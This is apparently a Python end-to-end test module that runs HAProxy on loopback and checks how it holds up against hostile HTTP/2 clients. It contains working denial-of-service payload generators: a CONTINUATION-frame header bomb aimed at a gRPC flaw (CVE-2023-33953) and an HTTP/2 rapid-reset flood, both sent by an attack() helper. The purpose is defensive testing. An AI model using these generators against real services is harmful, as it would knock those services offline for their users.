"""HAProxy as the shield of a gateway, both for real on loopback, and what strangers do to HTTP/2."""

import contextlib
import os
import select
import shutil
import socket
import ssl
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.e2e.certificates import HELLO
from tests.e2e.processes import PATIENCE_S

BINARY = shutil.which("haproxy", path=f"{os.environ.get('PATH', '')}:/usr/sbin:/sbin")

HEADERS, RST_STREAM, PING, CONTINUATION = 1, 3, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = (8).to_bytes(4, "big")


def program() -> str:
    if BINARY is None:
        pytest.skip("haproxy is not installed: run `make setup`")
    return BINARY


def check(file: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([program(), "-c", "-f", file], capture_output=True, text=True, timeout=PATIENCE_S)


@contextlib.contextmanager
def haproxy(file: Path) -> Iterator[None]:
    """Runs it. Listening sockets are there when the configuration is read; who connects sooner is refused."""
    log = file.with_suffix(".log")
    with log.open("wb") as output:
        process = subprocess.Popen(
            ["setpriv", "--pdeathsig", "KILL", program(), "-db", "-f", file],
            stdin=subprocess.DEVNULL,
            stdout=output,
            stderr=output,
        )
    try:
        yield
        assert process.poll() is None, f"HAProxy has ended: {log.read_text()}"
    finally:
        process.terminate()
        process.wait(PATIENCE_S)


# ---- What strangers do. ----


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: str, value: str) -> bytes:
    """HPACK: a header without indexing and without Huffman codes; each less than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def call(path: str, *headers: tuple[str, str]) -> bytes:
    """The headers of a gRPC call."""
    usual = (("te", "trailers"), ("content-type", "application/grpc"))
    pseudo = ((":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"))
    return b"".join(literal(name, value) for name, value in (*pseudo, *usual, *headers))


@dataclass
class Attack:
    """How far one came: what it could write, and why it was ended; no reason: it was not."""

    written: int
    ended: str


def attack(address: str, context: ssl.SSLContext, parts: Iterator[bytes], source: str = "127.0.0.1") -> Attack:
    """Says hello and writes all parts, reading what comes, until the end of either side."""
    host, port = address.rsplit(":", 1)
    written = 0
    with socket.create_connection((host, int(port)), timeout=PATIENCE_S, source_address=(source, 0)) as connection:
        try:
            with context.wrap_socket(connection, server_hostname=host) as stream:
                stream.sendall(HELLO)
                stream.setblocking(False)
                for part in parts:
                    rest = memoryview(part)
                    while rest:
                        read(stream)
                        try:
                            sent = stream.send(rest)
                        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                            wait(stream)
                            continue
                        written += sent
                        rest = rest[sent:]
                stream.settimeout(PATIENCE_S)
                # Its answer to a ping comes when all that was written has been looked at.
                stream.sendall(frame(PING, 0, 0, b"finished"))
                answer = b""
                while b"finished" not in answer:
                    more = stream.recv(65536)
                    if not more:
                        return Attack(written, "end of stream")
                    answer = answer[-8:] + more
        except OSError as error:
            return Attack(written, str(error) or type(error).__name__)
    return Attack(written, "")


def read(stream: ssl.SSLSocket) -> None:
    with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
        if not stream.recv(65536):
            raise ConnectionResetError("end of stream")


def wait(stream: ssl.SSLSocket) -> None:
    readable, writable, _ = select.select([stream], [stream], [], PATIENCE_S)
    if not readable and not writable:
        raise TimeoutError("neither reads nor writes")


def integer(value: int) -> bytes:
    """HPACK: a length of seven bits and what does not fit in them."""
    if value < 127:
        return bytes([value])
    coded, value = b"\x7f", value - 127
    while value >= 128:
        coded, value = coded + bytes([value % 128 + 128]), value // 128
    return coded + bytes([value])


def header_bomb(token: str, size: int) -> Iterator[bytes]:
    """One header of this size, in frames of 16 KiB: gRPC 1.51 begins anew with each of them (CVE-2023-33953)."""
    name = b"\x00" + integer(6) + b"filler" + integer(size)
    block = call("/fairlead.v1.SessionService/ListSessions", ("authorization", token)) + name
    yield frame(HEADERS, END_STREAM, 1, block)
    for _ in range(size // 16384):
        yield frame(CONTINUATION, 0, 1, b"y" * 16384)
    yield frame(CONTINUATION, END_HEADERS, 1, b"y" * (size % 16384))


def rapid_reset(token: str, count: int) -> Iterator[bytes]:
    """So many calls, each taken back at once."""
    block = call("/fairlead.v1.SessionService/ListSessions", ("authorization", token))
    for first in range(0, count, 100):
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block)
            + frame(RST_STREAM, 0, 2 * number + 1, CANCEL)
            for number in range(first, min(first + 100, count))
        )


def processor_seconds(pid: int) -> float:
    words = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(words[11]) + int(words[12])) / os.sysconf("SC_CLK_TCK")
